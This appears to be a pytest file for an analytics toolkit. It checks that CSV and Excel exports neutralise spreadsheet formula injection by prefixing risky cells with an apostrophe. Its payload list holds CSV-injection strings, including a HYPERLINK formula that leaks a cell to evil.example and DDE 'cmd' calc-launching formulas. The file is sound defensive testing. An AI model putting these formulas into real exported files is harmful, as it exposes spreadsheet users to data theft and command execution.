"""No cell of a table the toolkit writes runs as a formula in a spreadsheet.

The rule is OWASP's ("CSV Injection"; ASVS 5.0 requirement 1.2.10): a cell whose first
character is ``=``, ``+``, ``-``, ``@``, tab, carriage return or NUL gets a leading ``'``.
Numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from analytics._files import FORMULA_STARTS, csv_text, neutralise_cells, write_csv
from analytics.plots import save_table

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"appeal")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_formula_cells_are_neutralised_and_numbers_kept():
    frame = pd.DataFrame({"claim_id": PAYLOADS, "note": ["-", "-12.50", "+5", "1e3", "ok", "", "x"],
                          "paid": [-12.5, 0.0, 3.0, -1.0, 2.0, 5.0, -0.01],
                          "payer": pd.Categorical(["=1+1", "a", "a", "a", "a", "a", "a"])})
    rows = _cells(csv_text(frame))
    assert rows[0] == ["claim_id", "note", "paid", "payer"]
    for row in rows[1:]:
        assert not row[0].startswith(FORMULA_STARTS) and row[0].startswith("'")
    assert [r[0][1:] for r in rows[1:]] == PAYLOADS  # nothing else changed
    assert [r[1] for r in rows[1:]] == ["-", "-12.50", "+5", "1e3", "ok", "", "x"]
    assert rows[1][3] == "'=1+1"
    back = pd.read_csv(io.StringIO(csv_text(frame)))
    assert back["paid"].tolist() == [-12.5, 0.0, 3.0, -1.0, 2.0, 5.0, -0.01]  # still numbers
    assert frame["claim_id"].tolist() == PAYLOADS  # the caller's frame is untouched


def test_headers_and_index_are_neutralised_too():
    frame = pd.DataFrame({"=cmd|x": [1]}, index=pd.Index(["@evil"], name="payer"))
    rows = _cells(csv_text(frame, index=True))
    assert rows == [["payer", "'=cmd|x"], ["'@evil", "1"]]


def test_write_csv_and_save_table(tmp_path):
    frame = pd.DataFrame({"claim_id": ['=HYPERLINK("x")'], "paid": [-3.0]})
    path = write_csv(frame, tmp_path / "t.csv")
    assert path.read_text() == "claim_id,paid\n\"'=HYPERLINK(\"\"x\"\")\",-3.0\n"
    saved = save_table(frame, "claims_to_appeal", tmp_path)
    assert _cells(saved.read_text())[1] == ["'=HYPERLINK(\"x\")", "-3.0"]


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"claim_id": PAYLOADS[:4], "paid": [-1.0, 2.0, 3.0, 4.0]})
    path = tmp_path / "t.xlsx"
    neutralise_cells(frame).to_excel(path, index=False)
    sheet = openpyxl.load_workbook(path).active
    kinds = [sheet.cell(row=r, column=1).data_type for r in range(2, 6)]
    assert kinds == ["s"] * 4  # text; a raw "=..." would be a formula ("f")
    assert [sheet.cell(row=r, column=2).value for r in range(2, 6)] == [-1, 2, 3, 4]
    frame.to_excel(tmp_path / "raw.xlsx", index=False)  # the test would notice a formula
    assert openpyxl.load_workbook(tmp_path / "raw.xlsx").active.cell(row=2, column=1).data_type == "f"


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole():
    frame = pd.DataFrame({"note": ["line one\rline two", "plain"], "paid": [-1.0, 2.0]})
    back = pd.read_csv(io.StringIO(csv_text(frame)), keep_default_na=False)
    assert len(back) == 2 and back["note"].tolist() == frame["note"].tolist()
    assert back["paid"].tolist() == [-1.0, 2.0]
